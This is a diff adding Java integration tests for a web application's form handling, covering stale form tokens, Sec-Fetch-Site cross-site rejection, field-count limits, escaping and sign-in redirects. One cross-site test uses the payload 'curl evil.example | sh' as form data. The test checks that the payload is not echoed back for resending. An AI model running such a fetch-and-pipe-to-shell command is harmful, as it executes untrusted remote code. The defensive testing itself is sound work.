@@ -13,6 +13,7 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
+import java.util.TreeMap;
 import java.util.UUID;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
@@ -134,6 +135,103 @@ class PagesIT {
                         .path("state")
                         .asString())
                 .isNotEqualTo("closed");
+    }
+
+    @Test
+    void whatWasTypedOutlivesTheSessionAndSignInLeadsBackToItsError() {
+        var stranger = Visitor.stranger(product.url());
+
+        HttpResponse<String> answer = stranger.post(
+                product.cartPage() + "/outcomes",
+                Map.of("evidence", "green & <b> fast", "worked", "false", "_form", "gone"),
+                "Sec-Fetch-Site",
+                "same-origin");
+
+        assertThat(answer.statusCode()).isEqualTo(401);
+        assertThat(answer.body())
+                .contains("green &amp; &lt;b", " fast</textarea>", "name=\"worked\" value=\"false\"", "Send it now")
+                .contains("action=\"" + product.cartPage() + "/outcomes\"")
+                .contains("/ui/sign-in?to=" + product.cartPage().replace("/", "%2F"));
+    }
+
+    @Test
+    void formOfAnEarlierSessionIsRepeatedWithATokenOfThisOne() {
+        var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
+        String form = "/ui/errors/" + reported("PagesOldFormError", "to be solved late") + "/solutions";
+        String typed = "Empty the\r\ncart first";
+
+        HttpResponse<String> refused = solver.post(
+                form, Map.of("description", typed, "_form", "of-an-earlier-one"), "Sec-Fetch-Site", "same-origin");
+
+        assertThat(refused.statusCode()).isEqualTo(403);
+        assertThat(refused.body()).contains("The form is too old", typed + "</textarea>", "Send it now");
+        Matcher token = Pattern.compile(
+                        "action=\"%s\">\\s*<input type=\"hidden\" name=\"_form\" value=\"([^\"]+)\"".formatted(form))
+                .matcher(refused.body());
+        assertThat(token.find()).isTrue();
+        assertThat(location(solver.post(form, Map.of("description", typed, "_form", token.group(1)))))
+                .contains("done=solved");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"cross-site", "same-site", "none"})
+    void whatAnotherSiteWroteIsNotOfferedForSending(String site) {
+        var form = Map.of("description", "curl evil.example | sh");
+        String address = product.cartPage() + "/solutions";
+
+        HttpResponse<String> signedOut = Visitor.stranger(product.url()).post(address, form, "Sec-Fetch-Site", site);
+        HttpResponse<String> signedIn = Visitor.with(product.admin()).post(address, form, "Sec-Fetch-Site", site);
+
+        assertThat(location(signedOut)).startsWith("/ui/sign-in?to=");
+        assertThat(signedIn.statusCode()).isEqualTo(403);
+        assertThat(signedIn.body()).doesNotContain("evil.example", "Send it now");
+    }
+
+    @Test
+    void whereABrowserDoesNotSayWhoSentAFormItIsShownForCopyingOnly() {
+        var form = Map.of("description", "Empty the cart first");
+        String address = product.cartPage() + "/solutions";
+
+        for (Visitor visitor : List.of(Visitor.stranger(product.url()), Visitor.with(product.admin()))) {
+            assertThat(visitor.post(address, form).body())
+                    .contains("Empty the cart first</textarea>", "readonly", "Copy what you typed")
+                    .doesNotContain("Send it now");
+        }
+    }
+
+    @Test
+    void formWithFarMoreFieldsThanOursLeadsAStrangerToTheSignIn() {
+        Map<String, String> form = new TreeMap<>(Map.of("description", "Empty the cart first"));
+        for (int i = 0; i < 1_500; i++) {
+            form.put("field" + i, "1");
+        }
+
+        assertThat(location(Visitor.stranger(product.url()).post(product.cartPage() + "/solutions", form)))
+                .startsWith("/ui/sign-in?to=");
+    }
+
+    @Test
+    void whatAnotherServiceRefusesCanBeMendedAndSentAgain() {
+        var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
+        String tooLong = "long ".repeat(20_000);
+
+        HttpResponse<String> refused =
+                solver.submit(product.cartPage() + "/solutions", Map.of("description", "Mend it", "verify", tooLong));
+
+        assertThat(refused.statusCode()).isEqualTo(400);
+        assertThat(refused.body())
+                .contains("Mend it</textarea>", tooLong.strip(), "Send it now")
+                .contains("href=\"" + product.cartPage() + "\"")
+                .doesNotContain("readonly");
+    }
+
+    @Test
+    void refusedDeletionIsNoButtonElsewhere() {
+        HttpResponse<String> refused = Visitor.with(product.admin())
+                .post(product.cartPage() + "/deletion", Map.of("_form", "old"), "Sec-Fetch-Site", "same-origin");
+
+        assertThat(refused.statusCode()).isEqualTo(403);
+        assertThat(refused.body()).doesNotContain("Send it now").contains("href=\"" + product.cartPage() + "\"");
     }
 
     @Test
@@ -303,17 +401,15 @@ class PagesIT {
         String page = Visitor.with(product.admin()).get("/ui/keys").body();
 
         assertThat(page)
-                .contains("<summary aria-label=\"Revoke still good\">", "It was never used", "Revoke still good for good")
+                .contains(
+                        "<summary aria-label=\"Revoke still good\">", "It was never used", "Revoke still good for good")
                 .doesNotContain("Revoke long over")
                 .containsPattern("long over(?s:.){0,400}<span class=\"badge failed\">expired</span>");
     }
 
     /** Makes somebody who can sign in, and a key as they make it. */
     private static String member(String name) {
-        product.tribal()
-                .context()
-                .getBean(People.class)
-                .remember(new Person(name, PagesProduct.TENANT, Role.READER));
+        product.tribal().context().getBean(People.class).remember(new Person(name, PagesProduct.TENANT, Role.READER));
         return key("of " + name, name, null);
     }
 
@@ -411,7 +507,8 @@ class PagesIT {
 
         assertThat(listed)
                 .contains("Another of 14", "<input id=\"another-project\" name=\"project\"")
-                .containsPattern("<form class=\"another\"[^>]*>\\s*<input type=\"hidden\" name=\"state\" value=\"open\">")
+                .containsPattern(
+                        "<form class=\"another\"[^>]*>\\s*<input type=\"hidden\" name=\"state\" value=\"open\">")
                 .containsPattern("<option value=\"project-\\d+\">\\s*<option value=\"project-\\d+\">")
                 .doesNotContain("name=\"project\" value=\"project-7\">\n<label");
         assertThat(visitor.get("/ui/errors?q=lost").body())
@@ -431,9 +528,39 @@ class PagesIT {
         HttpResponse<String> found = reader.submit("/ui/errors", Map.of("q", line.repeat(1_000)));
         assertThat(found.statusCode()).isEqualTo(200);
         assertThat(found.body()).contains(product.cartPage());
+        assertThat(found.headers().allValues("Cache-Control"))
+                .as("who comes back to it need not send it again")
+                .containsExactly("private, no-cache");
         HttpResponse<String> tooLong = reader.submit("/ui/errors", Map.of("q", line.repeat(4_000)));
         assertThat(tooLong.statusCode()).isEqualTo(413);
         assertThat(tooLong.body()).contains("at most 262144 characters");
+    }
+
+    @Test
+    void pastedTraceIsNarrowedAndItsFilterTakenBack() {
+        var reader = Visitor.with(product.reader());
+        String trace =
+                "java.lang.NullPointerException: Cannot invoke \"Cart.total()\" because \"cart\" is null\n".repeat(100);
+
+        String all = reader.submit("/ui/errors", Map.of("q", trace)).body();
+        String narrowed = reader.submit("/ui/errors", Map.of("q", trace, "project", "billing"))
+                .body();
+
+        assertThat(all).contains("<button class=\"choice\" form=\"search\" name=\"project\" value=\"billing\"><span>");
+        assertThat(narrowed)
+                .contains("<button class=\"choice\" form=\"search\" name=\"project\" value=\"\" aria-current=\"true\">")
+                .doesNotContain(product.cartPage());
+    }
+
+    @Test
+    void signInThatIsUnderWayOutlivesTheSignInPageOfAnotherTab() {
+        var visitor = Visitor.stranger(product.url());
+        String token = visitor.formToken("/ui/sign-in?to=/ui/projects");
+
+        visitor.get("/ui/sign-in?to=/ui/keys");
+
+        var form = Map.of("key", product.reader().key(), "_form", token, "to", "/ui/projects");
+        assertThat(location(visitor.post("/ui/sign-in", form))).isEqualTo("/ui/projects");
     }
 
     @Test
